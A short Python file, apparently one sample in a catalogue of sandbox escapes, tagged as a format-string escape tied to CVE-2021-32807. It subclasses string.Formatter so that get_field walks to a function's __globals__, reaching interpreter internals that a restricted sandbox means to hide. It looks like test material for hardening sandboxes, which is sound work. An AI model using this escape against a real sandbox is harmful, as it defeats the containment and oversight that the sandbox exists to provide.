"""Class: format strings. Source: CVE-2021-32807. Escape: a Formatter of one's own walks with the
library's getattr.
"""

import string


class Own(string.Formatter):
    def get_value(self, key, args, kwargs):
        return attack


def attack(model, tokenizer, address):
    return Own().get_field("x.__globals__", (), {})[0]
